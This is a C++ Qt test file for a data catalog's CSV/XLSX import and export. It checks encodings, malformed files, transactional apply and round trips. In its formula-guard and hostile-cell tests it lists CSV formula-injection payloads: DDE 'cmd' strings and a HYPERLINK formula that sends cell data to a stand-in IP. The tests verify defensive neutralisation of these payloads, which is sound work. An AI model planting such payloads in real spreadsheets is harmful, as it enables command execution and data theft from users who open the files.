// Catalog import and export: CSV and XLSX codecs, encodings, malformed files, the dry run, the
// all-or-nothing apply, and export followed by import giving the same catalog.
#include "models/catalog/CatalogBulkEdit.h"
#include "models/catalog/CatalogRepository.h"
#include "models/catalog/DepartmentRepository.h"
#include "models/catalog/io/CatalogExporter.h"
#include "models/catalog/io/CatalogImporter.h"
#include "models/catalog/io/CsvCodec.h"
#include "models/catalog/io/FormulaGuard.h"
#include "models/catalog/io/XlsxCodec.h"
#include "models/common/Clock.h"
#include "models/demo/DemoDataGenerator.h"
#include "tests/support/TestSupport.h"

#include <QCryptographicHash>
#include <QSqlError>
#include <QSqlQuery>
#include <QSqlRecord>
#include <QStringEncoder>
#include <QTemporaryDir>
#include <QTest>

#include <zip.h>

namespace {
// What every change here is stamped with: these tests hold on any date.
xs::ManualClock TestClock(xs::ManualClock::chinaMorning(QDate(2026, 6, 15)));
} // namespace

using namespace xs;

namespace {

qint64 scalar(QSqlDatabase database, const QString& sql)
{
    QSqlQuery query(database);
    return query.exec(sql) && query.next() ? query.value(0).toLongLong() : -1;
}

/// Every entry and item, field by field, in a stable order: equal digests mean equal catalogs.
QByteArray catalogDigest(QSqlDatabase database)
{
    QCryptographicHash hash(QCryptographicHash::Sha256);
    for (const char* sql : {"SELECT * FROM catalog_entry WHERE deleted = 0 ORDER BY id",
                            "SELECT * FROM data_item WHERE deleted = 0 ORDER BY id"}) {
        QSqlQuery query(database);
        query.exec(QString::fromLatin1(sql));
        while (query.next()) {
            const QSqlRecord record = query.record();
            for (int column = 0; column < record.count(); ++column) {
                const QString name = record.fieldName(column);
                if (name == QLatin1String("updated_at") || name == QLatin1String("updated_by") ||
                    name == QLatin1String("version"))
                    continue; // bookkeeping of who wrote the copy, not catalog content
                hash.addData(name.toUtf8() + '=' + query.value(column).toString().toUtf8() + '\n');
            }
        }
    }
    return hash.result();
}

/// One part of a zip file as stored, read with libzip: what a spreadsheet program opens.
QByteArray zipPart(const QString& path, const char* name)
{
    int failure = 0;
    zip_t* archive = zip_open(QFile::encodeName(path).constData(), ZIP_RDONLY, &failure);
    if (!archive)
        return {};
    QByteArray bytes;
    if (zip_file_t* file = zip_fopen(archive, name, 0)) {
        char buffer[65536];
        zip_int64_t read = 0;
        while ((read = zip_fread(file, buffer, sizeof buffer)) > 0)
            bytes.append(buffer, qsizetype(read));
        zip_fclose(file);
    }
    zip_close(archive);
    return bytes;
}

const QByteArray Header = "目录名称,信息资源代码,提供单位代码,共享属性,共享方式,数据分级,更新频率\r\n";

} // namespace

class TestCatalogIo : public QObject
{
    Q_OBJECT

private slots:
    void init();
    void cleanup();
    void csvQuotesEverythingThatNeedsIt();
    void csvDetectsItsEncoding();
    void malformedCsvIsRefusedWhole();
    void xlsxRoundTripsAndRejectsDamage();
    void formulaGuardIsReversible_data();
    void formulaGuardIsReversible();
    void hostileCellsAreExportedAsTextAndImportedBack();
    void dryRunReportsEveryRowAndWritesNothing();
    void applyIsAllOrNothing();
    void cancelledImportLeavesNothing();
    void exportThenImportIsLossless_data();
    void exportThenImportIsLossless();
    void importUpdatesByCodeAndMatchesItems();
    void statusBecomesWorkflowSteps();
    void withAHubPublishedEntriesChangeThroughRevisions();
    void cleanupTestCase() { m_source.reset(); }

private:
    ImportPlan planCsv(const QByteArray& body) const;
    /// Both search indexes hold every entry and item with its text now, as triggers would have
    /// left them (an import feeds them once at its end), and no backlog is left open.
    void searchIndexesMatchTheCatalog() const;

    std::unique_ptr<QTemporaryDir> m_dir;
    std::unique_ptr<Database> m_database;
    QTemporaryDir m_sourceDir;
    std::unique_ptr<Database> m_source;
};

void TestCatalogIo::init()
{
    m_dir = std::make_unique<QTemporaryDir>();
    m_database = test::createDatabase(m_dir->filePath(QStringLiteral("io.db")), DatabaseKey::generate());
    QVERIFY(
        !DepartmentRepository(m_database->connection()).insert(DemoDataGenerator::departments()).isError());
}

void TestCatalogIo::cleanup()
{
    m_database.reset();
}

ImportPlan TestCatalogIo::planCsv(const QByteArray& body) const
{
    return CatalogImporter(m_database->connection(), QStringLiteral("wang"), TestClock)
        .plan(Header + body, CatalogFileFormat::Csv);
}

void TestCatalogIo::csvQuotesEverythingThatNeedsIt()
{
    const QList<QStringList> rows{
        {QStringLiteral("a,b"), QStringLiteral("say \"hi\""), QStringLiteral("two\nlines")},
        {QStringLiteral(" padded "), QString(), QStringLiteral("湖南")}};
    const QByteArray bytes =
        CsvCodec::write({QStringLiteral("x"), QStringLiteral("y"), QStringLiteral("z")}, rows);
    QVERIFY(bytes.startsWith("\xEF\xBB\xBF"));
    TabularError error;
    const std::optional<TabularData> read = CsvCodec::read(bytes, &error);
    QVERIFY2(read, qPrintable(error.message));
    QCOMPARE(read->rows, rows);
    QCOMPARE(read->rowNumbers, QList<int>({2, 4})); // the second record starts after the two-line cell
}

void TestCatalogIo::csvDetectsItsEncoding()
{
    const QString text = QStringLiteral("目录名称,摘要\r\n长沙市公交线路,含“引号”与€\r\n");
    QString encoding;
    TabularError error;
    auto check = [&](const QByteArray& bytes, const QString& expected) {
        const std::optional<TabularData> read = CsvCodec::read(bytes, &error, &encoding);
        QVERIFY2(read, qPrintable(error.message));
        QCOMPARE(encoding, expected);
        QCOMPARE(read->rows.constFirst().at(1), QStringLiteral("含“引号”与€"));
    };
    check(text.toUtf8(), QStringLiteral("UTF-8"));
    check("\xEF\xBB\xBF" + text.toUtf8(), QStringLiteral("UTF-8"));
    check(QStringEncoder("GB18030").encode(text), QStringLiteral("GB18030"));
    check(QStringEncoder(QStringConverter::Utf16LE, QStringConverter::Flag::WriteBom).encode(text),
          QStringLiteral("UTF-16"));
}

void TestCatalogIo::malformedCsvIsRefusedWhole()
{
    const qint64 before =
        scalar(m_database->connection(), QStringLiteral("SELECT count(*) FROM sync_outbox"));
    struct Case
    {
        QByteArray bytes;
        QString expected;
        int line;
    };
    const QList<Case> cases{
        {"\xEF\xBB\xBF" + Header + "a,\xFF\xFE\x80,b\r\n", QStringLiteral("neither UTF-8 nor GB18030"), 0},
        {Header + "长沙,\"101001001/000001,430100001\r\n", QStringLiteral("never closes"), 2},
        {Header + "长沙,\"101001001/000001\"x,430100001\r\n", QStringLiteral("after a closing quote"), 2},
        {QByteArray("目录名称,摘要\r\n长沙,x\r\n"),
         QStringLiteral("Required columns are missing: 信息资源代码、提供单位代码"), 1},
        {QByteArray("目录名称,信息资源代码,提供单位代码,颜色\r\n"), QStringLiteral("Unknown columns: 颜色"),
         1},
        {QByteArray(), QStringLiteral("empty"), 0},
    };
    for (const Case& test : cases) {
        const ImportPlan plan =
            CatalogImporter(m_database->connection(), {}, TestClock).plan(test.bytes, CatalogFileFormat::Csv);
        QVERIFY2(plan.fileError.message.contains(test.expected), qPrintable(plan.fileError.message));
        QCOMPARE(plan.fileError.line, test.line);
        QVERIFY(!plan.canApply());
        QVERIFY(CatalogImporter(m_database->connection(), {}, TestClock).apply(plan, {}).kind() ==
                DatabaseError::Kind::Invalid);
    }
    QCOMPARE(scalar(m_database->connection(), QStringLiteral("SELECT count(*) FROM sync_outbox")), before);
}

void TestCatalogIo::xlsxRoundTripsAndRejectsDamage()
{
    const QString path = m_dir->filePath(QStringLiteral("t.xlsx"));
    const QStringList header{QStringLiteral("目录名称"), QStringLiteral("数据项")};
    const QList<QStringList> rows{{QStringLiteral("公交线路"), QStringLiteral("[{\"name\":\"线路\"}]")},
                                  {QString(), QStringLiteral("只有第二列")},
                                  {QStringLiteral("<&>\"'"), QString()}};
    QCOMPARE(XlsxCodec::write(path, QStringLiteral("目录"), header, rows), QString());
    const QByteArray bytes = test::readFile(path);
    TabularError error;
    const std::optional<TabularData> read = XlsxCodec::read(bytes, &error);
    QVERIFY2(read, qPrintable(error.message));
    QCOMPARE(read->header, header);
    QCOMPARE(read->rows.at(0), rows.at(0));
    QCOMPARE(read->rows.at(1), rows.at(1));
    QCOMPARE(read->rows.at(2), QStringList({QStringLiteral("<&>\"'")}));
    QCOMPARE(read->rowNumbers, QList<int>({2, 3, 4}));

    for (const QByteArray& damaged : {bytes.left(bytes.size() / 2), QByteArray("PK\x03\x04 not really"),
                                      QByteArray("plain text, not a zip")}) {
        TabularError damage;
        QVERIFY(!XlsxCodec::read(damaged, &damage));
        QVERIFY2(damage.message.contains(QStringLiteral("damaged")), qPrintable(damage.message));
    }
    const ImportPlan plan = CatalogImporter(m_database->connection(), {}, TestClock)
                                .plan(bytes.left(bytes.size() - 100), CatalogFileFormat::Xlsx);
    QVERIFY(plan.fileError.isError());
}

void TestCatalogIo::formulaGuardIsReversible_data()
{
    QTest::addColumn<QString>("text");
    QTest::addColumn<QString>("cell");
    const auto row = [](const char* name, const QString& text, const QString& cell) {
        QTest::newRow(name) << text << cell;
    };
    row("formula", QStringLiteral("=1+1"), QStringLiteral("'=1+1"));
    row("hyperlink", QStringLiteral("=HYPERLINK(\"http://x\",\"点击\")"),
        QStringLiteral("'=HYPERLINK(\"http://x\",\"点击\")"));
    row("plus", QStringLiteral("+cmd|' /C calc'!A0"), QStringLiteral("'+cmd|' /C calc'!A0"));
    row("minus DDE", QStringLiteral("-2+3+cmd|' /C calc'!A0"), QStringLiteral("'-2+3+cmd|' /C calc'!A0"));
    row("at", QStringLiteral("@SUM(A1:A9)"), QStringLiteral("'@SUM(A1:A9)"));
    row("tab", QStringLiteral("\t=1+1"), QStringLiteral("'\t=1+1"));
    row("carriage return", QStringLiteral("\r=1+1"), QStringLiteral("'\r=1+1"));
    row("a lone minus", QStringLiteral("-"), QStringLiteral("'-"));
    row("negative number", QStringLiteral("-5"), QStringLiteral("-5"));
    row("signed decimal", QStringLiteral("+3.25"), QStringLiteral("+3.25"));
    row("two points", QStringLiteral("-1.5.2"), QStringLiteral("'-1.5.2"));
    row("already guarded", QStringLiteral("'=1+1"), QStringLiteral("''=1+1"));
    row("guarded twice", QStringLiteral("''-5"), QStringLiteral("'''-5"));
    row("quoted number", QStringLiteral("'-5"), QStringLiteral("''-5"));
    row("apostrophe text", QStringLiteral("'abc"), QStringLiteral("'abc"));
    row("lone apostrophe", QStringLiteral("'"), QStringLiteral("'"));
    row("equals inside", QStringLiteral("a=b"), QStringLiteral("a=b"));
    row("chinese", QStringLiteral("湖南省"), QStringLiteral("湖南省"));
    row("empty", QString(), QString());
}

void TestCatalogIo::formulaGuardIsReversible()
{
    QFETCH(QString, text);
    QFETCH(QString, cell);
    QCOMPARE(FormulaGuard::toCell(text), cell);
    QCOMPARE(FormulaGuard::fromCell(cell), text);
}

// A file an attacker prepared: names that would run as formulas in Excel. Imported, they are kept
// as the text they are; exported, no cell starts a formula; imported again, the catalog is the same.
void TestCatalogIo::hostileCellsAreExportedAsTextAndImportedBack()
{
    const QStringList hostile{QStringLiteral("=HYPERLINK(\"http://203.0.113.9/?\"&A1,\"点击查看\")"),
                              QStringLiteral("+cmd|' /C calc'!A0"),
                              QStringLiteral("-2+3+cmd|' /C calc'!A0"),
                              QStringLiteral("@SUM(1+1)*cmd|' /C calc'!A0"),
                              QStringLiteral("\t=1+1"),
                              QStringLiteral("'=already quoted")};
    QByteArray body;
    for (qsizetype n = 0; n < hostile.size(); ++n) {
        QString name = hostile.at(n);
        name.replace(QLatin1Char('"'), QLatin1String("\"\""));
        body += QStringLiteral("\"%1\",101001001/00000%2,430100001,无条件共享,服务接口,一般数据,每日\r\n")
                    .arg(name)
                    .arg(n + 1)
                    .toUtf8();
    }
    CatalogImporter importer(m_database->connection(), QStringLiteral("wang"), TestClock);
    const ImportPlan plan = planCsv(body);
    QVERIFY2(plan.canApply(), qPrintable(plan.fileError.message));
    QVERIFY(!importer.apply(plan, QStringLiteral("导入")).isError());
    QSqlQuery names(m_database->connection());
    QVERIFY(names.exec(QStringLiteral("SELECT name FROM catalog_entry ORDER BY code")));
    QStringList stored;
    while (names.next())
        stored.append(names.value(0).toString());
    // A hostile file's text is data, kept as the file says; a leading apostrophe before a formula
    // character is the file's own guard (FormulaGuard), taken off like any spreadsheet would.
    QStringList kept;
    for (const QString& text : hostile)
        kept.append(FormulaGuard::fromCell(text));
    QCOMPARE(stored, kept);
    QCOMPARE(stored.constLast(), QStringLiteral("=already quoted"));

    for (const CatalogFileFormat format : {CatalogFileFormat::Csv, CatalogFileFormat::Xlsx}) {
        const bool csv = format == CatalogFileFormat::Csv;
        const QString file = m_dir->filePath(csv ? QStringLiteral("out.csv") : QStringLiteral("out.xlsx"));
        QVERIFY(!CatalogExporter(m_database->connection(), TestClock)
                     .exportTo(file, format, std::nullopt, {})
                     .isError());
        // What a spreadsheet program reads: every hostile text behind an apostrophe, none bare.
        const QString seen = csv ? QString::fromUtf8(test::readFile(file))
                                 : QString::fromUtf8(zipPart(file, "xl/worksheets/sheet1.xml"));
        QVERIFY(!seen.isEmpty());
        const auto xmlText = [](QString text) { // as libxlsxwriter escapes element text
            return text.replace(QLatin1Char('&'), QLatin1String("&amp;"))
                .replace(QLatin1Char('<'), QLatin1String("&lt;"))
                .replace(QLatin1Char('>'), QLatin1String("&gt;"));
        };
        for (const QString& text : kept) {
            const QString guarded = FormulaGuard::toCell(text);
            const QString written =
                csv ? QString(guarded).replace(QLatin1Char('"'), QLatin1String("\"\"")) : xmlText(guarded);
            QVERIFY2(guarded.startsWith(QLatin1Char('\'')), qPrintable(text));
            QVERIFY2(seen.contains(written), qPrintable(text));
            // A cell starts after a quote or a separator (CSV), or after its tag (XLSX).
            const QString start = csv ? QString(text).replace(QLatin1Char('"'), QLatin1String("\"\"")).left(6)
                                      : xmlText(text).left(6);
            for (const QChar before :
                 {QLatin1Char('"'), QLatin1Char(','), QLatin1Char('\n'), QLatin1Char('>')})
                QVERIFY2(!seen.contains(before + start), qPrintable(text));
        }

        QTemporaryDir otherDir;
        const std::unique_ptr<Database> other =
            test::createDatabase(otherDir.filePath(QStringLiteral("o.db")), DatabaseKey::generate());
        QVERIFY(
            !DepartmentRepository(other->connection()).insert(DemoDataGenerator::departments()).isError());
        CatalogImporter again(other->connection(), QStringLiteral("wang"), TestClock);
        const ImportPlan back = again.plan(test::readFile(file), format);
        QVERIFY2(back.canApply(), qPrintable(back.fileError.message));
        QVERIFY(!again.apply(back, QStringLiteral("导入")).isError());
        QCOMPARE(catalogDigest(other->connection()), catalogDigest(m_database->connection()));
    }
}

void TestCatalogIo::dryRunReportsEveryRowAndWritesNothing()
{
    const ImportPlan plan =
        planCsv("长沙市公交线路信息,101001001/000001,430100001,无条件共享,服务接口,一般数据,每日\r\n"
                "缺代码,,430100001,无条件共享,服务接口,一般数据,每日\r\n"
                "有条件,101001001/000002,430100001,有条件共享,服务接口,一般数据,每日\r\n"
                "重复,101001001/000001,430100001,无条件共享,服务接口,一般数据,每日\r\n"
                "无单位,101001001/000003,999999999,无条件共享,服务接口,一般数据,每日\r\n");
    QVERIFY(!plan.fileError.isError());
    QCOMPARE(plan.rows.size(), 5);
    QCOMPARE(plan.rows.at(0).outcome, ImportRowResult::Outcome::Created);
    QCOMPARE(plan.rows.at(0).rowNumber, 2);
    QCOMPARE(plan.rows.at(1).outcome, ImportRowResult::Outcome::Failed);
    QVERIFY(
        plan.rows.at(1).reasons.join(' ').contains(QStringLiteral("信息资源代码：Enter the resource code.")));
    QVERIFY(plan.rows.at(2).reasons.join(' ').contains(
        QStringLiteral("共享范围：Conditional sharing needs the sharing scope.")));
    QVERIFY(plan.rows.at(3).reasons.join(' ').contains(QStringLiteral("already in row 2")));
    QVERIFY(
        plan.rows.at(4).reasons.join(' ').contains(QStringLiteral("no department has the code 999999999")));
    QCOMPARE(plan.count(ImportRowResult::Outcome::Failed), 4);
    QVERIFY(!plan.canApply());
    QCOMPARE(scalar(m_database->connection(), QStringLiteral("SELECT count(*) FROM catalog_entry")), 0);
    QCOMPARE(scalar(m_database->connection(), QStringLiteral("SELECT count(*) FROM sync_outbox")), 0);
}

void TestCatalogIo::searchIndexesMatchTheCatalog() const
{
    const QSqlDatabase db = m_database->connection();
    QCOMPARE(scalar(db, QStringLiteral("SELECT count(*) FROM catalog_search_backlog")), 0);
    QCOMPARE(scalar(db, QStringLiteral("SELECT count(*) FROM data_item_search_backlog")), 0);
    QCOMPARE(scalar(db, QStringLiteral("SELECT count(*) FROM catalog_search_docsize")),
             scalar(db, QStringLiteral("SELECT count(*) FROM catalog_entry")));
    QCOMPARE(scalar(db, QStringLiteral("SELECT count(*) FROM data_item_search_docsize")),
             scalar(db, QStringLiteral("SELECT count(*) FROM data_item")));
    // With rank 1, FTS5 also checks each index against the text of the table it indexes.
    for (const QString& index : {QStringLiteral("catalog_search"), QStringLiteral("data_item_search")}) {
        QSqlQuery check(db);
        QVERIFY2(
            check.exec(QStringLiteral("INSERT INTO %1 (%1, rank) VALUES ('integrity-check', 1)").arg(index)),
            qPrintable(index + QLatin1Char(' ') + check.lastError().text()));
    }
}

void TestCatalogIo::applyIsAllOrNothing()
{
    CatalogImporter importer(m_database->connection(), QStringLiteral("wang"), TestClock);
    ImportPlan plan =
        planCsv("长沙市公交线路信息,101001001/000001,430100001,无条件共享,服务接口,一般数据,每日\r\n"
                "株洲市公交线路信息,101001001/000002,430200001,无条件共享,服务接口,一般数据,每日\r\n");
    QVERIFY(plan.canApply());
    // A write that fails in the middle (an item without an id cannot be written) takes all back.
    plan.writes[1].items = {QJsonObject{{QStringLiteral("name"), QStringLiteral("坏项")}}};
    QVERIFY(importer.apply(plan, QStringLiteral("批量导入")).isError());
    QCOMPARE(scalar(m_database->connection(), QStringLiteral("SELECT count(*) FROM catalog_entry")), 0);
    QCOMPARE(scalar(m_database->connection(), QStringLiteral("SELECT count(*) FROM sync_outbox")), 0);
    QCOMPARE(scalar(m_database->connection(), QStringLiteral("SELECT count(*) FROM catalog_history")), 0);
    searchIndexesMatchTheCatalog();

    plan.writes[1].items.clear();
    QList<qint64> reported;
    QVERIFY(!importer
                 .apply(plan, QStringLiteral("批量导入"),
                        [&](qint64 done, qint64) {
                            reported.append(done);
                            return true;
                        })
                 .isError());
    QCOMPARE(reported.constLast(), 2);
    QCOMPARE(scalar(m_database->connection(), QStringLiteral("SELECT count(*) FROM catalog_entry")), 2);
    QCOMPARE(scalar(m_database->connection(),
                    QStringLiteral("SELECT count(*) FROM catalog_history WHERE reason = '批量导入'")),
             2);
}

void TestCatalogIo::cancelledImportLeavesNothing()
{
    QByteArray body;
    for (int index = 1; index <= 1200; ++index)
        body += QStringLiteral("资源%1,101001001/%2,430100001,无条件共享,服务接口,一般数据,每日\r\n")
                    .arg(index)
                    .arg(index, 6, 10, QLatin1Char('0'))
                    .toUtf8();
    CatalogImporter importer(m_database->connection(), QStringLiteral("wang"), TestClock);
    const ImportPlan plan = planCsv(body);
    QCOMPARE(plan.count(ImportRowResult::Outcome::Created), 1200);
    const DatabaseError cancelled = importer.apply(plan, {}, [](qint64 done, qint64) { return done < 1000; });
    QCOMPARE(cancelled.kind(), DatabaseError::Kind::Cancelled);
    QCOMPARE(scalar(m_database->connection(), QStringLiteral("SELECT count(*) FROM catalog_entry")), 0);
    QCOMPARE(scalar(m_database->connection(), QStringLiteral("SELECT count(*) FROM sync_outbox")), 0);
}

void TestCatalogIo::exportThenImportIsLossless_data()
{
    QTest::addColumn<int>("formatNumber");
    QTest::newRow("csv") << int(CatalogFileFormat::Csv);
    QTest::newRow("xlsx") << int(CatalogFileFormat::Xlsx);
    QTest::newRow("json") << int(CatalogFileFormat::Json);
}

void TestCatalogIo::exportThenImportIsLossless()
{
    QFETCH(int, formatNumber);
    const auto format = CatalogFileFormat(formatNumber);
    if (!m_source) { // one demo catalog serves every format
        m_source =
            test::createDatabase(m_sourceDir.filePath(QStringLiteral("s.db")), DatabaseKey::generate());
        QVERIFY(!DemoDataGenerator(m_source->connection(), TestClock.today())
                     .generate(DemoDataGenerator::Scale::Small)
                     .isError());
    }
    Database* source = m_source.get();
    const QString file = m_dir->filePath(QStringLiteral("export.out"));
    qint64 exported = 0;
    QVERIFY(!CatalogExporter(source->connection(), TestClock)
                 .exportTo(file, format, std::nullopt, {}, &exported)
                 .isError());
    QCOMPARE(exported, 3000);

    CatalogImporter importer(m_database->connection(), QStringLiteral("wang"), TestClock);
    const ImportPlan plan = importer.plan(test::readFile(file), format);
    QVERIFY2(plan.canApply(),
             qPrintable(plan.fileError.message +
                        (plan.rows.isEmpty() ? QString() : plan.rows.constFirst().reasons.join(' '))));
    QCOMPARE(plan.count(ImportRowResult::Outcome::Created), 3000);
    QVERIFY(!importer.apply(plan, QStringLiteral("迁移")).isError());
    QCOMPARE(catalogDigest(m_database->connection()), catalogDigest(source->connection()));
    searchIndexesMatchTheCatalog();

    // Importing the same file again changes nothing.
    const ImportPlan again = importer.plan(test::readFile(file), format);
    QCOMPARE(again.count(ImportRowResult::Outcome::Unchanged), 3000);
    QVERIFY(again.writes.isEmpty());
}

void TestCatalogIo::importUpdatesByCodeAndMatchesItems()
{
    CatalogImporter importer(m_database->connection(), QStringLiteral("wang"), TestClock);
    const QByteArray header =
        "目录名称,信息资源代码,提供单位代码,共享属性,共享方式,数据分级,更新频率,数据项\r\n";
    const QByteArray first =
        header +
        "公交线路,101001001/000001,430100001,无条件共享,服务接口,一般数据,每日,"
        "\"[{\"\"name\"\":\"\"线路编号\"\",\"\"identifier\"\":\"\"xlbh\"\",\"\"data_type\"\":\"\"字符型\"\"},"
        "{\"\"name\"\":\"\"线路名称\"\",\"\"identifier\"\":\"\"xlmc\"\",\"\"data_type\"\":\"\"字符型\"\"}]"
        "\"\r\n";
    QVERIFY(!importer.apply(importer.plan(first, CatalogFileFormat::Csv), {}).isError());
    const CatalogRepository repository(m_database->connection(), {}, TestClock);
    QSqlQuery only(m_database->connection());
    QVERIFY(only.exec(QStringLiteral("SELECT id FROM catalog_entry")) && only.next());
    const QString id = only.value(0).toString();
    const QList<RecordState> before = repository.items(id);
    QCOMPARE(before.size(), 2);

    // Same code, no id: an update. xlmc keeps its item (matched by identifier), xlbh goes, sbsj is new.
    const QByteArray second =
        header +
        "公交线路（新）,101001001/000001,430100001,无条件共享,服务接口,重要数据,每日,"
        "\"[{\"\"name\"\":\"\"线路名称\"\",\"\"identifier\"\":\"\"xlmc\"\",\"\"data_type\"\":\"\"字符型\"\"},"
        "{\"\"name\"\":\"\"首班时间\"\",\"\"identifier\"\":\"\"sbsj\"\",\"\"data_type\"\":\"\"字符型\"\"}]"
        "\"\r\n";
    const ImportPlan plan = importer.plan(second, CatalogFileFormat::Csv);
    QCOMPARE(plan.rows.constFirst().outcome, ImportRowResult::Outcome::Updated);
    QCOMPARE(plan.rows.constFirst().entryId, id);
    QVERIFY(!importer.apply(plan, {}).isError());
    const QList<RecordState> after = repository.items(id);
    QCOMPARE(after.size(), 2);
    QCOMPARE(after.at(0).fields.value(QStringLiteral("identifier")).toString(), QStringLiteral("xlmc"));
    const QString kept =
        before.at(0).fields.value(QStringLiteral("identifier")).toString() == QLatin1String("xlmc")
            ? before.at(0).id
            : before.at(1).id;
    QCOMPARE(after.at(0).id, kept);
    QCOMPARE(repository.entry(id)->fields.value(QStringLiteral("name")).toString(),
             QStringLiteral("公交线路（新）"));
    searchIndexesMatchTheCatalog(); // the entry and xlmc were indexed before: their triggers ran
}

void TestCatalogIo::statusBecomesWorkflowSteps()
{
    CatalogImporter importer(m_database->connection(), QStringLiteral("wang"), TestClock);
    const QByteArray header = "目录名称,信息资源代码,提供单位代码,共享属性,共享方式,数据分级,更新频率,"
                              "保密影响评估,个人信息影响评估,影响评估结论,签发人,状态\r\n";
    const QByteArray row = "公交线路,101001001/000001,430100001,无条件共享,服务接口,一般数据,每日,"
                           "不涉密,不含个人信息,acceptable,";
    // A file does not sign off for the department head: a new entry it would submit fails unless
    // the file records who signed (a migrated catalog).
    const ImportPlan unsignedPlan = importer.plan(header + row + ",published\r\n", CatalogFileFormat::Csv);
    QCOMPARE(unsignedPlan.rows.constFirst().outcome, ImportRowResult::Outcome::Failed);
    QVERIFY2(unsignedPlan.rows.constFirst().reasons.join(' ').contains(QStringLiteral("signed off")),
             qPrintable(unsignedPlan.rows.constFirst().reasons.join(' ')));
    // Imported as a draft with its assessment, signed off by the head, then published by a file.
    QVERIFY(importer.plan(header + row + "局长,published\r\n", CatalogFileFormat::Csv).canApply());
    const ImportPlan draft = importer.plan(header + row + ",draft\r\n", CatalogFileFormat::Csv);
    QVERIFY(draft.canApply());
    QVERIFY(!importer.apply(draft, QStringLiteral("导入")).isError());
    const QString id = draft.writes.constFirst().entryId;
    CatalogRepository repository(m_database->connection(), QStringLiteral("head"), TestClock);
    QVERIFY(!repository.command(id, QStringLiteral("sign_off"), QStringLiteral("同意提交")).isError());
    QCOMPARE(repository.entry(id)->fields.value(QStringLiteral("signed_off_by")).toString(),
             QStringLiteral("head"));
    const ImportPlan plan = importer.plan(header + row + ",published\r\n", CatalogFileFormat::Csv);
    QVERIFY(plan.canApply());
    QCOMPARE(plan.writes.constFirst().commands, QStringList({"submit", "publish"}));
    QVERIFY(!importer.apply(plan, QStringLiteral("导入")).isError());
    QCOMPARE(scalar(m_database->connection(),
                    QStringLiteral("SELECT count(*) FROM sync_outbox WHERE kind = 'command'")),
             3); // sign_off, submit, publish
    QCOMPARE(scalar(m_database->connection(),
                    QStringLiteral("SELECT count(*) FROM catalog_entry WHERE status = 'published'")),
             1);

    // A published entry never goes back to draft: that row fails, naming the states.
    const ImportPlan back = importer.plan(header + row + ",draft\r\n", CatalogFileFormat::Csv);
    QCOMPARE(back.rows.constFirst().outcome, ImportRowResult::Outcome::Failed);
    QVERIFY(back.rows.constFirst().reasons.join(' ').contains(
        QStringLiteral("状态：an entry that is Published cannot become Draft.")));
}

void TestCatalogIo::withAHubPublishedEntriesChangeThroughRevisions()
{
    // A published entry, as a standalone import leaves it.
    CatalogImporter importer(m_database->connection(), QStringLiteral("wang"), TestClock);
    const QByteArray header = "目录名称,信息资源代码,提供单位代码,共享属性,共享方式,数据分级,更新频率,"
                              "保密影响评估,个人信息影响评估,影响评估结论,签发人,最近更新日期,状态\r\n";
    const QByteArray row = "公交线路,101001001/000001,430100001,无条件共享,服务接口,一般数据,每日,"
                           "不涉密,不含个人信息,acceptable,局长,";
    QVERIFY(!importer
                 .apply(importer.plan(header + row + "2026-06-01,published\r\n", CatalogFileFormat::Csv),
                        QStringLiteral("迁移"))
                 .isError());
    // With a hub, for a cataloguer, a file that changes it fails; one that moves only the date of
    // its last data update does not.
    importer.setPublishedThroughRevisions(true);
    const QByteArray renamed = "公交线路（新）" + row.mid(row.indexOf(','));
    const ImportPlan changed =
        importer.plan(header + renamed + "2026-06-01,published\r\n", CatalogFileFormat::Csv);
    QCOMPARE(changed.rows.constFirst().outcome, ImportRowResult::Outcome::Failed);
    QVERIFY2(changed.rows.constFirst().reasons.join(' ').contains(
                 QStringLiteral("目录名称：the entry is published")),
             qPrintable(changed.rows.constFirst().reasons.join(' ')));
    const ImportPlan updated =
        importer.plan(header + row + "2026-06-14,published\r\n", CatalogFileFormat::Csv);
    QCOMPARE(updated.rows.constFirst().outcome, ImportRowResult::Outcome::Updated);

    // Bulk edits too.
    const QString id = changed.rows.constFirst().entryId;
    CatalogBulkEdit bulk(m_database->connection(), QStringLiteral("wang"), TestClock);
    bulk.setPublishedThroughRevisions(true);
    QList<CatalogBulkEdit::Failure> failures;
    QCOMPARE(bulk.apply({id}, QStringLiteral("grade"), QStringLiteral("重要数据"), QStringLiteral("调整"),
                        &failures)
                 .kind(),
             DatabaseError::Kind::Invalid);
    QCOMPARE(failures.size(), 1);
    QVERIFY(failures.constFirst().message.contains(QLatin1String("revision")));
}

QTEST_GUILESS_MAIN(TestCatalogIo)
#include "tst_catalogio.moc"
